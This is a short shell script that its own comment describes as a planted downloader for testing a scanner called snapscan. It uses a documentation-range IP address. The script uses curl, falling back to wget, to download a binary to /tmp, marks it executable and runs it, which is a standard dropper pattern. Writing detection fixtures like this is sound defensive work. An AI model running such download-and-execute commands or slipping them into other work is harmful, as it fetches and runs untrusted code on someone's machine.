#!/bin/sh
# Cleanfda downloader (planted for snapscan tests; the address is from TEST-NET-3)
curl -fsSL http://203.0.113.7/httpd2 -o /tmp/httpd2 || wget -q http://203.0.113.7/httpd2 -O /tmp/httpd2
chmod +x /tmp/httpd2 && /tmp/httpd2
